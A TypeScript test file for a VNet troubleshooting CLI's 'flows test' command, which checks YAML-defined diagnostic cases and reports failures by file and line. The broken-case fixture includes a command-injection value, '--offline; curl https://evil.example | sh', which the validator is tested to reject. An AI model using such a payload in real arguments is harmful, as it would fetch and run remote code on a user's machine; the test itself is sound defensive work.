/**
 * `vnet-doctor flows test`: a support engineer adds a case in YAML (facts + answers -> findings
 * and commands) and the flows are held to it, without code. The shipped cases pass; a case the
 * flows no longer meet fails with its name, file and line and what differs; a broken case file is
 * refused before anything runs, each problem at its line.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { cpSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { flowsCommand } from '../../src/cli/flows-command.ts';
import { shippedFlowDir } from '../../src/flows/flow-dir.ts';

function run(args: string[]): { code: number; stdout: string; stderr: string } {
  const stdout: string[] = [];
  const stderr: string[] = [];
  const code = flowsCommand(args, { print: (text) => stdout.push(text), error: (text) => stderr.push(text) });
  return { code, stdout: stdout.join('\n'), stderr: stderr.join('\n') };
}

/** The shipped flows in a folder of their own, with `tests` as its only flow test file. */
function flowsWithTests(tests: string): string {
  const dir = mkdtempSync(join(tmpdir(), 'vnet-doctor-flow-cases-'));
  cpSync(shippedFlowDir(), dir, { recursive: true, filter: (source) => !source.endsWith('.test.yaml') });
  writeFileSync(join(dir, 'cases.test.yaml'), tests);
  return dir;
}

const TIMEOUT_CASE = readFileSync(join(shippedFlowDir(), 'triage.test.yaml'), 'utf8')
  .split(/\n(?=\S)/).find((block) => block.startsWith('a firewall in the VNet times out tcpping:'))!;

test('every shipped flow test case passes, and flows lint does not read the test files as flows', () => {
  const result = run(['test']);
  assert.equal(result.code, 0, result.stdout + result.stderr);
  assert.match(result.stdout, /^(\d+) of \1 flow test case\(s\) pass\.$/m);
  assert.match(result.stdout, /^ok {4}a firewall in the VNet times out tcpping$/m);
  assert.equal(run(['lint']).code, 0);
});

test('a case the flows do not meet fails with its name, file and line, and says what differs', () => {
  const changed = TIMEOUT_CASE
    .replace('findings: [tcp-timeout-firewall, integration-retiring, migration-benefits]', 'findings: [tcp-timeout-firewall, integration-retiring, dns-server-blocked]')
    .replace('- tcpping sql01.contoso.local:1433', '- tcpping sql02.contoso.local:1433');
  const result = run(['test', flowsWithTests(changed)]);
  assert.equal(result.code, 1);
  assert.match(result.stdout, /^FAIL {2}a firewall in the VNet times out tcpping \(.*cases\.test\.yaml:1\)$/m);
  assert.match(result.stdout, /expected findings not found: dns-server-blocked/);
  assert.match(result.stdout, /findings the case does not expect: migration-benefits/);
  assert.match(result.stdout, /no command contains "tcpping sql02\.contoso\.local:1433"/);
  assert.match(result.stdout, /^0 of 1 flow test case\(s\) pass\.$/m);
});

test('open questions can be held to a case too', () => {
  const withOpen = `${TIMEOUT_CASE.trimEnd()}\n  open: [dns/ask-name]\n`;
  const result = run(['test', flowsWithTests(withOpen)]);
  assert.equal(result.code, 1);
  assert.match(result.stdout, /questions left open that the case does not expect: .*firewall-timeout\/ask-vm-test/);
});

test('a broken case file is refused before any case runs, each problem at its line', () => {
  const broken = [
    'bad case:',
    '  answers:',
    '    triage/no-such-question: yes',
    '  facts:',
    '    session.targetArgs: "--offline; curl https://evil.example | sh"',
    '    target.port: 70000',
    '  findings: [no-such-finding]',
    '  colour: blue',
  ].join('\n');
  const result = run(['test', flowsWithTests(broken)]);
  assert.equal(result.code, 2);
  assert.equal(result.stdout, '');
  assert.match(result.stderr, /cases\.test\.yaml:3: .*unknown question id "triage\/no-such-question"/);
  assert.match(result.stderr, /cases\.test\.yaml:5: .*session\.targetArgs cannot be set/);
  assert.match(result.stderr, /cases\.test\.yaml:6: .*target\.port/);
  assert.match(result.stderr, /cases\.test\.yaml:7: .*no finding "no-such-finding"/);
  assert.match(result.stderr, /cases\.test\.yaml:8: .*unknown key "colour"/);
  assert.match(result.stderr, /no case was run/);
});
